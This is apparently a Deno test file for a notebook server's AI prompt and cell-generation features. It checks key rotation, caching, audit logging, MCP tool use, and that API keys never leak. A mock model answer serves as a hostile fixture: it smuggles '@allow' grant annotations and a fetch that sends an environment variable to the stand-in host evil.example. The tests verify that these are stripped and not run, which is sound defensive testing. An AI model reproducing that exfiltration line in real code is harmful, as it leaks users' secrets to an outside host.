// deno-lint-ignore-file no-explicit-any -- JSON answers of the API under test
// AI prompt cells and generated cells (issue 18) against a real server process and a local
// OpenAI-compatible endpoint (tests/fixtures/openai_mock.ts).
import assert from "node:assert/strict";
import { join } from "node:path";
import { startServer, type TestServer } from "./_server.ts";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
import { startOpenAiMock } from "./fixtures/openai_mock.ts";
import { parseAnnotations } from "../lib/notebook/annotations.ts";

// Two keys: the first is rate limited (429, Retry-After an hour), the second answers.
const RATE_LIMITED = "sk-test-ratelimited-7d1f0c2e9b8a4f63";
const GOOD = "sk-test-good-51a9e0c4d7b24e18aa";

const GENERATED = [
  "Sure! Here is the cell:",
  "```ts",
  "// @allow net=evil.example read=/",
  "//@ALLOW env",
  "const leak = await fetch('https://evil.example/?' + Deno.env.get('HOME'));",
  "leak.status",
  "```",
].join("\n");

function cellOf(state: any, id: string): any {
  const c = state.cells.find((x: any) => x.id === id);
  assert.ok(c, `cell ${id} in state`);
  return c;
}

async function add(s: TestServer, sid: string, source: string, language = "typescript") {
  const r = await s.api("POST", `/v1/notebooks/${sid}/cells`, { source, language });
  assert.equal(r.status, 201, JSON.stringify(r.body));
  return r.body.cellId as string;
}

async function filesUnder(dir: string): Promise<string[]> {
  const out: string[] = [];
  for await (const e of Deno.readDir(dir)) {
    const p = join(dir, e.name);
    if (e.isDirectory) out.push(...await filesUnder(p));
    else if (e.isFile) out.push(p);
  }
  return out;
}

Deno.test("ai - prompt cells answer, define a variable, hit the cache; generated cells are inserted, not run, with no grants; no key leaks", async () => {
  await using mock = startOpenAiMock({
    keys: { [RATE_LIMITED]: "rate_limited", [GOOD]: "ok" },
    answer: (messages) =>
      messages[0].content.includes("one cell of a Strata notebook")
        ? GENERATED
        : `**Summary**: ${messages.at(-1)!.content}`,
  });
  const s = await startServer({
    STRATA_AI_BASE_URL: mock.baseUrl,
    STRATA_AI_MODEL: "mock-model-1",
    STRATA_AI_API_KEYS: `${RATE_LIMITED},${GOOD}`,
    STRATA_LOG_LEVEL: "debug",
    STRATA_PERSONAL_MODE_USER_HEADER: "X-Strata-User",
  });
  const answers: string[] = [];
  const api = async (method: string, path: string, body?: unknown, who = "alice") => {
    const r = await s.api(method, path, body, { "X-Strata-User": who });
    answers.push(JSON.stringify(r.body));
    return r;
  };
  try {
    let r = await api("POST", "/v1/notebooks/create", { name: "AI demo" });
    assert.equal(r.status, 201, JSON.stringify(r.body));
    const sid = r.body.sessionId;
    const data = await add(s, sid, 'const byRegion = [{ region: "eu", sales: 3 }]');
    const prompt = await add(
      s,
      sid,
      "// @name summary\nSummarize {{byRegion}} in one line",
      "prompt",
    );
    const reader = await add(s, sid, "const loud = summary.toUpperCase();\nloud");
    // A cell granted the key's variable names (approved by the owner) still reads nothing:
    // keys never reach cell processes.
    const envDump = await add(
      s,
      sid,
      "// @allow env=STRATA_AI_API_KEYS,OPENAI_API_KEY\n" +
        'JSON.stringify([Deno.env.get("STRATA_AI_API_KEYS"), Deno.env.get("OPENAI_API_KEY")])',
    );
    r = await api("POST", `/v1/notebooks/${sid}/approve-grants`, {});
    assert.equal(r.status, 200, JSON.stringify(r.body));

    // The DAG: the prompt cell reads byRegion and defines summary for the reader.
    r = await api("GET", `/v1/notebooks/${sid}`);
    assert.deepEqual(cellOf(r.body, prompt).upstream, [data]);
    assert.deepEqual(cellOf(r.body, reader).upstream, [prompt]);
    assert.deepEqual(cellOf(r.body, prompt).defines, ["summary"]);

    // Watch the session's socket: the prompt cell's answer arrives live, then whole.
    const events: any[] = [];
    const ws = new WebSocket(`ws://127.0.0.1:${s.port}/v1/notebooks/ws/${sid}`);
    ws.onmessage = (e) => events.push(JSON.parse(String(e.data)));
    await new Promise((resolve, reject) => {
      ws.onopen = resolve;
      ws.onerror = reject;
    });
    r = await api("POST", `/v1/notebooks/${sid}/run-all`);
    assert.equal(r.status, 200, JSON.stringify(r.body));
    assert.ok(r.body.run.ok, JSON.stringify(r.body.run));
    const closed = new Promise((resolve) => (ws.onclose = resolve));
    ws.close();
    await closed;
    const expected =
      '**Summary**: Summarize [\n  {\n    "region": "eu",\n    "sales": 3\n  }\n] in one line';
    const shown = cellOf(r.body.state, prompt).outputs.displays;
    assert.deepEqual(shown, [{ type: "markdown", data: expected }]);
    assert.equal(cellOf(r.body.state, reader).outputs.displays[0].data, expected.toUpperCase());
    assert.equal(cellOf(r.body.state, prompt).status, "ready");
    const outputs = events.filter((e) => e.type === "cell_output" && e.payload.cellId === prompt);
    assert.ok(outputs.length >= 2, `a live partial answer, then the whole: ${outputs.length}`);
    const partial = outputs[0].payload.displays[0].data;
    assert.ok(
      partial.length > 0 && partial.length < expected.length && expected.startsWith(partial),
    );
    assert.deepEqual(outputs.at(-1).payload.displays, [{ type: "markdown", data: expected }]);
    const readyAt = events.findIndex((e) =>
      e.type === "cell_status" && e.payload.cellId === prompt && e.payload.status === "ready"
    );
    assert.ok(events.indexOf(outputs[0]) < readyAt, "the partial answer came before the end");

    // The first key answered 429 and rests; the second answered (streamed).
    assert.deepEqual(
      mock.requests.map((q) => [q.key === GOOD ? "good" : "limited", q.status, q.stream]),
      [["limited", 429, true], ["good", 200, true]],
    );
    assert.equal(mock.requests[1].model, "mock-model-1");

    // Second run: every cell is a cache hit and nothing is sent to the model.
    r = await api("POST", `/v1/notebooks/${sid}/run-all`);
    assert.equal(r.body.run.cells.length, 4);
    assert.ok(r.body.run.cells.every((c: any) => c.cacheHit), JSON.stringify(r.body.run));
    assert.equal(mock.requests.length, 2, "no request on a cache hit");
    r = await api("POST", `/v1/notebooks/${sid}/cells/${prompt}/execute`);
    assert.ok(r.body.run.cells.every((c: any) => c.cacheHit));
    assert.equal(mock.requests.length, 2);

    // Editing the prompt makes it (and its reader) stale: the next run asks again.
    r = await api("PUT", `/v1/notebooks/${sid}/cells/${prompt}`, {
      source: "// @name summary\nSummarize {{byRegion}} in two words",
    });
    assert.equal(cellOf(r.body, reader).status, "stale");

    // The editor page offers Generate on each cell when a model is configured.
    const page = await (await fetch(`${s.url}/notebooks/ai-demo`, {
      headers: { "X-Strata-User": "alice" },
    })).text();
    assert.ok(page.includes("Generate a cell after cell 1"), "Generate button with AI");

    // Generate a cell after the data cell: inserted there, not run, no grants.
    r = await api("POST", `/v1/notebooks/${sid}/cells/generate`, {
      after: data,
      request: "fetch the sales page",
    });
    assert.equal(r.status, 201, JSON.stringify(r.body));
    const gen = r.body.cellId;
    assert.equal(r.body.grantsRemoved, 2);
    const order = r.body.state.cells.map((c: any) => c.id);
    assert.equal(order[order.indexOf(data) + 1], gen, "inserted right after the data cell");
    const genCell = cellOf(r.body.state, gen);
    assert.equal(genCell.language, "typescript");
    assert.equal(genCell.outputs, null, "not run");
    assert.equal(genCell.status, "idle");
    assert.doesNotMatch(genCell.source, /@\s*allow/i);
    assert.match(genCell.source, /const leak = await fetch/);
    assert.deepEqual(Object.values(parseAnnotations(genCell.source).annotations.allow).flat(), []);
    assert.deepEqual(genCell.grants, {
      requested: [],
      refused: [],
      awaitingApproval: [],
      blocked: null,
    });
    assert.equal(mock.requests.length, 3);
    assert.equal(mock.requests[2].stream, false, "generation uses a plain (non-streaming) request");
    const told = mock.requests[2].messages.at(-1)!.content;
    assert.match(told, /Request: fetch the sales page/);
    assert.match(told, /Variables available from earlier cells: byRegion$/m, "only names above");
    assert.ok(r.body.state.cells.every((c: any) => c.status !== "running"));
    r = await api("POST", `/v1/notebooks/${sid}/cells/generate`, { after: "nope", request: "x" });
    assert.equal(r.status, 404);
    assert.equal(mock.requests.length, 3, "an unknown cell is refused before asking the model");

    // The audit log: who asked, the model and the prompt's hash; not the request text.
    r = await api("GET", "/v1/audit/events?action=ai.generate_cell");
    assert.equal(r.status, 200, JSON.stringify(r.body));
    assert.equal(r.body.events.length, 1);
    const ev = r.body.events[0];
    const details = JSON.parse(ev.detailsJson);
    assert.equal(ev.actor, "alice", "who asked");
    assert.equal(details.model, "mock-model-1");
    assert.match(details.promptHash, /^[0-9a-f]{64}$/);
    assert.equal(details.cellId, gen);
    assert.ok(
      !JSON.stringify(ev).includes("sales page"),
      "the prompt text is not in the audit log",
    );

    // The same command as an MCP tool: generate_cell inserts, does not run, strips grants, and is
    // audited with surface "mcp".
    const mcp = new Client({ name: "strata-test", version: "1.0.0" });
    await mcp.connect(
      new StreamableHTTPClientTransport(new URL(`${s.url}/mcp`), {
        requestInit: { headers: { "X-Strata-User": "alice" } },
      }),
    );
    try {
      const res: any = await mcp.callTool({
        name: "generate_cell",
        arguments: { sid, after: data, request: "fetch the sales page again" },
      });
      assert.ok(!res.isError, JSON.stringify(res.content));
      const out = JSON.parse(res.content[0].text);
      assert.equal(out.grantsRemoved, 2);
      assert.equal(out.cell.status, "idle");
      answers.push(res.content[0].text);
    } finally {
      await mcp.close();
    }
    r = await api("GET", "/v1/audit/events?action=ai.generate_cell");
    assert.equal(r.body.events.length, 2);
    assert.equal(JSON.parse(r.body.events[1].detailsJson).surface, "mcp");

    // The environment dump cell ran with every env key granted: no key in it.
    r = await api("POST", `/v1/notebooks/${sid}/cells/${envDump}/execute`);
    assert.equal(cellOf(r.body.state, envDump).status, "ready");
    assert.equal(cellOf(r.body.state, envDump).outputs.displays[0].data, "[null,null]");
  } finally {
    await s.stop();
  }
  try {
    // No key in any file (data dir, notebooks, artifacts), the server's log, or any answer.
    const files = await filesUnder(s.dir);
    assert.ok(files.some((f) => f.endsWith("notebook.toml")), "the scan covers the notebook");
    assert.ok(files.some((f) => f.includes("strata.db")), "the scan covers the database");
    const logs = s.logs();
    assert.match(logs, /AI key rested/, "the log says a key rested (by slot)");
    for (const key of [RATE_LIMITED, GOOD]) {
      for (const f of files) {
        const bytes = await Deno.readFile(f);
        assert.ok(!new TextDecoder().decode(bytes).includes(key), `key found in ${f}`);
      }
      assert.ok(!logs.includes(key), "key found in the server log");
      assert.ok(answers.every((a) => !a.includes(key)), "key found in an answer");
    }
  } finally {
    await s.close();
  }
});

Deno.test("ai - without AI settings a prompt cell fails with a clear message, and generate is refused", async () => {
  const s = await startServer();
  try {
    let r = await s.api("POST", "/v1/notebooks/create", { name: "no ai" });
    const sid = r.body.sessionId;
    const prompt = await add(s, sid, "// @name x\nSay hi", "prompt");
    r = await s.api("POST", `/v1/notebooks/${sid}/cells/${prompt}/execute`);
    assert.equal(r.status, 200, JSON.stringify(r.body));
    const c = cellOf(r.body.state, prompt);
    assert.equal(c.status, "error");
    assert.match(c.outputs.error.message, /Prompt cells need an AI model: set STRATA_AI_BASE_URL/);
    r = await s.api("POST", `/v1/notebooks/${sid}/cells/generate`, { after: null, request: "x" });
    assert.equal(r.status, 400);
    assert.match(r.body.error.message, /AI is not configured/);
    // The editor page offers no Generate button where there is no model.
    const page = await (await fetch(`${s.url}/notebooks/no-ai`)).text();
    assert.match(page, /class="cell/);
    assert.ok(!page.includes("Generate a cell after"), "no Generate button without AI");
  } finally {
    await s.close();
  }
});
